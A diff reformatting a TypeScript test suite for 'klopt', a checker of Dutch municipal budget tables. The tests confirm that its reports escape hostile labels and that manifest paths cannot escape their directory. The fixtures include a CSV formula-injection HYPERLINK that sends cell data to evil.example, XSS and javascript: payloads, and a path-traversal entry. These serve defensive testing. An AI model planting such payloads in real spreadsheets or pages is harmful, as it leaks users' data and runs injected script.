@@ -23,12 +23,18 @@ const tmp = () => mkdtempSync(join(tmpdir(), 'klopt-safety-'));
 const CLI_TIMEOUT = 60_000;
 
 /** A Hengelo 2023 style table whose labels are attacks; its 6.1 row has a wrong verschil. */
-const HOSTILE_LABEL = '=HYPERLINK("http://evil.example/?"&A1,"klik") <script>alert(1)</script> [x](javascript:alert(1)) ![i](http://evil.example/i.png) | **b** \u001b[31m';
-const hostileTable = cellPerLine('=HYPERLINK("http://evil.example/","6 Sociaal domein") <img src=x onerror=alert(1)>', ['Begroting 2023 primitief', 'Begroting 2023 gewijzigd', 'Rekening 2023', 'Verschil'], [
-  ['Baten', '831', '21.118', '21.246', '128'],
-  ['Lasten', '14.015', '24.335', '22.699', '1.636'],
-  [`6.1 ${HOSTILE_LABEL}`, '-13.184', '-3.217', '-1.453', '-1.764'],
-]);
+const HOSTILE_LABEL =
+  '=HYPERLINK("http://evil.example/?"&A1,"klik") <script>alert(1)</script> [x](javascript:alert(1)) ' +
+  '![i](http://evil.example/i.png) | **b** \u001b[31m';
+const hostileTable = cellPerLine(
+  '=HYPERLINK("http://evil.example/","6 Sociaal domein") <img src=x onerror=alert(1)>',
+  ['Begroting 2023 primitief', 'Begroting 2023 gewijzigd', 'Rekening 2023', 'Verschil'],
+  [
+    ['Baten', '831', '21.118', '21.246', '128'],
+    ['Lasten', '14.015', '24.335', '22.699', '1.636'],
+    [`6.1 ${HOSTILE_LABEL}`, '-13.184', '-3.217', '-1.453', '-1.764'],
+  ],
+);
 
 describe('reports escape everything that comes from a document', () => {
   const dir = tmp();
@@ -53,7 +59,9 @@ describe('reports escape everything that comes from a document', () => {
       expect(r[col('file')]).toBe("'@SUM(A1).txt");
     }
     // no cell of the CSV can start a formula any more, except figures
-    for (const r of body) for (const c of r) expect(/^[=+@\t\r]/.test(c) || (/^-/.test(c) && !/^-[\d.,]+%?$/.test(c) && c !== '-')).toBe(false);
+    for (const r of body)
+      for (const c of r)
+        expect(/^[=+@\t\r]/.test(c) || (/^-/.test(c) && !/^-[\d.,]+%?$/.test(c) && c !== '-')).toBe(false);
     // numbers: expected/found stay plain signed numbers
     expect(body.some((r) => r[col('found')] === '-1764')).toBe(true);
   });
@@ -65,7 +73,8 @@ describe('reports escape everything that comes from a document', () => {
     expect(md).toContain('\\[x\\](javascript:alert(1))');
     expect(md).toContain('\\*\\*b\\*\\*');
     // every table row of the findings still has its 10 columns: the label's | did not split it
-    for (const line of md.split('\n').filter((l) => l.startsWith('| error'))) expect(line.split(/(?<!\\)\|/).length).toBe(12);
+    for (const line of md.split('\n').filter((l) => l.startsWith('| error')))
+      expect(line.split(/(?<!\\)\|/).length).toBe(12);
   });
 });
 
@@ -92,7 +101,9 @@ ${url}/plain-text-url
       writeFileSync(join(dir, 'bait-page.txt'), bait);
       writeFileSync(join(dir, 'bait.md'), `![x](${url}/md.png) [y](${url}/link)\n`);
       // async spawn: the server must keep answering while klopt runs
-      const child = spawn(process.execPath, [BIN, 'check', dir, join(dir, 'bait.html'), '--format', 'json'], { cwd: ROOT });
+      const child = spawn(process.execPath, [BIN, 'check', dir, join(dir, 'bait.html'), '--format', 'json'], {
+        cwd: ROOT,
+      });
       let stdout = '';
       child.stdout.on('data', (d) => (stdout += d));
       const code = await new Promise<number | null>((r) => child.on('close', r));
@@ -115,7 +126,11 @@ describe('manifest paths stay inside the manifest directory', () => {
     copyFileSync(HENGELO_2023, join(root, 'outside.txt'));
     symlinkSync(join(root, 'outside.txt'), join(dir, 'link.txt'));
     const manifest = join(dir, 'manifest.csv');
-    writeFileSync(manifest, `file,gemeente,document_type,jaar,programma,source_format\nhengelo.txt,Hengelo,jaarstukken,2023,6 Sociaal domein,html-text\n${entry},Elders,begroting,2020,,html-text\n`);
+    writeFileSync(
+      manifest,
+      `file,gemeente,document_type,jaar,programma,source_format\nhengelo.txt,Hengelo,jaarstukken,2023,6 ` +
+        `Sociaal domein,html-text\n${entry},Elders,begroting,2020,,html-text\n`,
+    );
     return { root, dir, manifest };
   }
 
@@ -126,7 +141,9 @@ describe('manifest paths stay inside the manifest directory', () => {
   ] as const) {
     it(`${what} is refused with the manifest line, unless allowed`, () => {
       const { manifest, root } = setup(entry);
-      expect(() => readManifest(manifest)).toThrow(`${manifest}:3: file "${entry}" lies outside the manifest's directory`);
+      expect(() => readManifest(manifest)).toThrow(
+        `${manifest}:3: file "${entry}" lies outside the manifest's directory`,
+      );
       const allowed = readManifest(manifest, { allowOutside: true });
       expect([...allowed.values()].map((e) => e.gemeente)).toEqual(['Hengelo', 'Elders']);
       void root;
@@ -140,7 +157,17 @@ describe('manifest paths stay inside the manifest directory', () => {
       const refused = klopt('check', join(root, 'docs', 'hengelo.txt'), '--manifest', manifest, '--fail-on', 'never');
       expect(refused.status).toBe(2);
       expect(refused.stderr).toContain(`${manifest}:3: file "../outside.txt" lies outside`);
-      const allowed = klopt('check', join(root, 'outside.txt'), '--manifest', manifest, '--allow-outside-manifest', '--format', 'json', '--fail-on', 'never');
+      const allowed = klopt(
+        'check',
+        join(root, 'outside.txt'),
+        '--manifest',
+        manifest,
+        '--allow-outside-manifest',
+        '--format',
+        'json',
+        '--fail-on',
+        'never',
+      );
       expect(allowed.status).toBe(0);
       expect(JSON.parse(allowed.stdout).documents[0]).toMatchObject({ gemeente: 'Elders', metadataSource: 'manifest' });
     },
@@ -151,5 +178,3 @@ describe('manifest paths stay inside the manifest directory', () => {
     expect(readManifest(join(SAMPLES, 'manifest.csv')).size).toBe(5);
   });
 });
-
-
